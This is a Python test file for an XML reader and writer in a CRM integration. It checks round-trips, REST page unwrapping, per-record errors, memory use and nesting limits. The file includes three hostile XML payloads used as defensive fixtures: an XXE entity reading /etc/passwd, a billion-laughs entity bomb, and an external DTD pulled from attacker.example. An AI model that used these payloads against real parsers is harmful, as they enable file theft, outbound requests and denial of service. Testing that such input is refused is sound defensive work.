"""XML reading and writing: the REST layout, generic layouts, hostile documents, flat memory."""

import collections
import io
import tracemalloc
from decimal import Decimal

import pytest

from customers.api.parsers import XMLParser
from integrations.formats import FormatError, open_reader, open_writer


def write_xml(records) -> bytes:
    stream = io.BytesIO()
    with open_writer(stream, "xml") as writer:
        for record in records:
            writer.write(record)
    return stream.getvalue()


def read(data: bytes, **options):
    with open_reader(io.BytesIO(data), **options) as reader:
        return reader, list(reader)


RECORDS = [
    {
        "id": "1",
        "name": "张伟 Zoë 😀 <&> \"'",
        "missing": None,
        "empty": "",
        "notes": "line one\nline two\r\nand a CR\r",
        "padded": "  spaces kept  ",
        "tags": ["vip", "a|b"],
        "company": {"id": "7", "address": {"city": "北京", "zip": None}},
        "contacts": [{"email": "a@x.org"}, {"email": None}],
        "nothing": [],
        "blank": {},
        "1st": "a key that is not an XML name",
    },
    {"id": "2", "name": "Ben"},
]


def test_round_trip_is_exact_for_text_none_nesting_and_lists():
    reader, records = read(write_xml(RECORDS))

    assert reader.format == "xml"
    assert [record.values for record in records] == RECORDS
    assert [record.number for record in records] == [1, 2]
    assert reader.headers == list(RECORDS[0])


def test_scalars_come_back_as_their_text():
    _, records = read(write_xml([{"n": 3, "amount": Decimal("12.50"), "ok": True}]))
    assert records[0].values == {"n": "3", "amount": "12.50", "ok": "true"}


def test_writer_output_is_what_the_rest_api_parser_reads():
    data = write_xml(RECORDS)
    parsed = XMLParser().parse(io.BytesIO(data))
    assert parsed == RECORDS


def test_writer_writes_text_streams_too():
    stream = io.StringIO()
    with open_writer(stream, "xml") as writer:
        writer.write({"name": "张伟"})
    _, records = read(stream.getvalue().encode())
    assert records[0].values == {"name": "张伟"}


def test_generic_repeated_element_layout_with_a_namespace():
    data = b"""<?xml version="1.0" encoding="UTF-8"?>
    <contacts xmlns="urn:example:crm">
      <contact><first_name>Ana</first_name><email>ana@example.com</email></contact>
      <contact>
        <first_name>Ben</first_name>
        <phones><list-item>+1 555</list-item><list-item>+1 556</list-item></phones>
      </contact>
    </contacts>
    """

    reader, records = read(data)

    assert reader.headers == ["first_name", "email"]
    assert [record.values for record in records] == [
        {"first_name": "Ana", "email": "ana@example.com"},
        {"first_name": "Ben", "phones": ["+1 555", "+1 556"]},
    ]


def test_a_page_of_the_rest_api_is_unwrapped():
    data = (
        b'<?xml version="1.0" encoding="utf-8"?>'
        b'<root xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        b"<next>https://crm.example/api/v1/contacts/?cursor=abc</next>"
        b'<previous xsi:nil="true"/>'
        b"<results><list-item><id>1</id></list-item><list-item><id>2</id></list-item></results>"
        b"</root>"
    )
    _, records = read(data)
    assert [(record.number, record.values) for record in records] == [
        (1, {"id": "1"}),
        (2, {"id": "2"}),
    ]


def test_an_empty_page_has_no_records():
    _, records = read(b'<root><next/><results type="list"/></root>')
    assert records == []


def test_problems_with_one_record_are_reported_on_it():
    data = (
        b"<contacts>"
        b"<contact><name>Ana</name></contact>"
        b"<contact>just text</contact>"
        b"<contact><name>Ben</name><name>Bob</name></contact>"
        b"<contact/>"
        b"<contact><name>Cy</name></contact>"
        b"</contacts>"
    )

    _, records = read(data)

    assert [record.number for record in records] == [1, 2, 3, 4, 5]
    assert records[0].error is None and records[4].values == {"name": "Cy"}
    assert records[1].error == "Record 2 (<contact>) has text instead of fields."
    assert "repeated or misplaced child <name>" in records[2].error
    assert records[3].error == "Record 4 (<contact>) has nothing instead of fields."


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE contacts [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<contacts><contact><name>&secret;</name></contact></contacts>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<contacts><contact><name>&lol4;</name></contact></contacts>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE contacts SYSTEM "http://attacker.example/evil.dtd">
<contacts><contact><name>Ana</name></contact></contacts>"""


@pytest.mark.parametrize("document", [XXE, BILLION_LAUGHS, EXTERNAL_DTD])
def test_hostile_documents_are_refused_before_any_record(document):
    with pytest.raises(FormatError, match="DOCTYPE"):
        open_reader(io.BytesIO(document))


def test_entity_reference_without_a_dtd_is_malformed():
    with pytest.raises(FormatError, match="undefined entity"):
        open_reader(io.BytesIO(b"<contacts><contact><name>&secret;</name></contact></contacts>"))


def test_malformed_xml_gives_its_line_and_column():
    data = b"<contacts>\n<contact><name>Ana</name></contact>\n<contact><name>Ben</nam></contact>"
    with pytest.raises(FormatError, match=r"line 3, column 21: mismatched tag"):
        read(data)


def test_truncated_document_is_a_format_error():
    with pytest.raises(FormatError, match="Malformed XML"):
        read(write_xml(RECORDS)[:-10])


def test_records_are_streamed_in_flat_memory():
    data = write_xml({"id": n, "name": f"Name {n}", "tags": ["a", "b"]} for n in range(20_000))
    assert len(data) > 1_500_000

    tracemalloc.start()
    try:
        baseline = tracemalloc.get_traced_memory()[0]
        with open_reader(io.BytesIO(data)) as reader:
            last = collections.deque(reader, maxlen=1)
        peak = tracemalloc.get_traced_memory()[1] - baseline
    finally:
        tracemalloc.stop()

    assert last[0].values == {"id": "19999", "name": "Name 19999", "tags": ["a", "b"]}
    assert peak < 2_500_000, f"peak {peak:,} bytes above baseline"


def nested(depth: int) -> str:
    return "<a>" * depth + "x" + "</a>" * depth


@pytest.mark.parametrize("wrapped", [False, True], ids=["root", "rest-page"])
def test_a_record_nested_deeper_than_the_limit_is_its_error_and_the_next_record_is_read(wrapped):
    records = f"<contact><first_name>{nested(15_000)}</first_name></contact>"
    records += "<contact><first_name>Ana</first_name></contact>"
    if wrapped:
        records = records.replace("contact>", "list-item>")
        records = f"<count>2</count><results>{records}</results>"

    _, read_records = read(f"<root>{records}</root>".encode())

    assert [(r.number, r.values, r.error) for r in read_records] == [
        (1, {}, "Record 1 is nested more than 32 levels deep."),
        (2, {"first_name": "Ana"}, None),
    ]


@pytest.mark.parametrize(
    "content",
    ["<tag/>" * 20_000, "<notes>" + "x" * 1_500_000 + "</notes>"],
    ids=["elements", "bytes"],
)
def test_a_record_larger_than_the_limit_is_its_error_and_the_next_record_is_read(content):
    data = f"<root><contact>{content}</contact><contact><a>1</a></contact></root>".encode()

    _, records = read(data)

    assert [(r.values, r.error) for r in records] == [
        ({}, "Record 1 is larger than 1,024 KB or holds more than 10,000 values."),
        ({"a": "1"}, None),
    ]
